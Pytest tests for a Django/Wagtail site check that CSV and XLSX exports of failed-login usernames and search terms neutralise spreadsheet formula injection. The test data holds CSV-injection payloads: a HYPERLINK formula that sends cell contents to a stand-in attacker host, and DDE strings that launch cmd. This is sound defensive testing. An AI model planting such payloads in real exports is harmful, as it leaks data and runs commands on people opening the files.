"""Spreadsheet exports fed by anonymous input never carry a live formula."""

import csv
import importlib
import inspect
import io

import pytest
from django.urls import get_resolver, resolve, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cong.accounts.models import LoginEvent
from cong.core.exports import SafeSpreadsheetExportMixin, safe_cell
from cong.search.reports import SafeSearchTermsReportView

ATTACKS = [
    '=HYPERLINK("http://ke-gian.example/?"&A1;"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def xlsx_cells(response) -> list:
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def assert_inert(cells: list, typed: list[str]) -> None:
    for value in typed:
        assert "'" + value in cells, value
    for cell in cells:
        assert not (isinstance(cell, str) and cell and cell[0] in "=+-@\t\r"), cell


@pytest.mark.parametrize("value", ATTACKS)
def test_safe_cell_makes_every_formula_start_inert(value):
    assert safe_cell(value) == "'" + value


def test_safe_cell_leaves_ordinary_text_and_numbers_alone():
    for value in ("Nguyễn Văn A", "203.0.113.5", "Điều 5 - khoản 2", 42, -1, None, ""):
        assert safe_cell(value) == value


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_login_log_export_escapes_user_names_typed_as_formulas(client, admin_client, export):
    for name in ATTACKS[:4]:
        client.post(reverse("wagtailadmin_login"), {"username": name, "password": "sai"})
    typed = list(LoginEvent.objects.filter(kind="failure").values_list("username", flat=True))
    assert len(typed) == 4
    response = admin_client.get(reverse("accounts_login_events"), {"export": export})
    assert response.status_code == 200
    cells = csv_cells(response) if export == "csv" else xlsx_cells(response)
    assert_inert(cells, typed)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_search_terms_export_escapes_what_visitors_typed(client, admin_client, home, export):
    for query in ATTACKS[:4]:
        assert client.get("/tim-kiem/", {"q": query}).status_code == 200
    from wagtail.contrib.search_promotions.models import Query

    typed = list(Query.objects.values_list("query_string", flat=True))
    assert len(typed) == 4 and all(t[0] in "=+-@" for t in typed)
    url = reverse("wagtailsearchpromotions:search_terms")
    response = admin_client.get(url, {"export": export})
    assert response.status_code == 200
    cells = csv_cells(response) if export == "csv" else xlsx_cells(response)
    assert_inert(cells, typed)


def test_the_search_terms_report_still_lists_the_terms_for_superusers_only(
    client, admin_client, home, django_user_model
):
    client.get("/tim-kiem/", {"q": "chuyen doi so"})
    url = reverse("wagtailsearchpromotions:search_terms")
    assert "chuyen doi so" in admin_client.get(url).content.decode()
    editor = django_user_model.objects.create_user("bientap", password="x", is_staff=True)
    client.force_login(editor)
    assert "chuyen doi so" not in client.get(url).content.decode()


def _export_views():
    """Every class-based view with a CSV/XLSX export (columns in `list_export`)."""
    found = set()

    def walk(patterns):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern.url_patterns)
                continue
            view = getattr(pattern.callback, "view_class", None)
            if view and issubclass(view, SpreadsheetExportMixin) and view.list_export:
                found.add(view)

    walk(get_resolver().url_patterns)
    return found


def test_every_export_of_anonymous_input_goes_through_safe_cell():
    views = _export_views()
    ours = {v for v in views if v.__module__.startswith("cong.")}
    assert {v.__name__ for v in ours} >= {"LoginEventReportView", "SafeSearchTermsReportView"}
    for view in ours:
        assert issubclass(view, SafeSpreadsheetExportMixin), view
    # Wagtail's own search-terms report is shadowed at its address (menu item included).
    for name in ("search_terms", "search_terms_results"):
        view = resolve(reverse(f"wagtailsearchpromotions:{name}")).func.view_class
        assert view is SafeSearchTermsReportView
    # The participation exports use the same helper.
    exports = importlib.import_module("cong.participation.exports")
    assert exports.safe_cell is safe_cell
    assert "def safe_cell" not in inspect.getsource(exports)
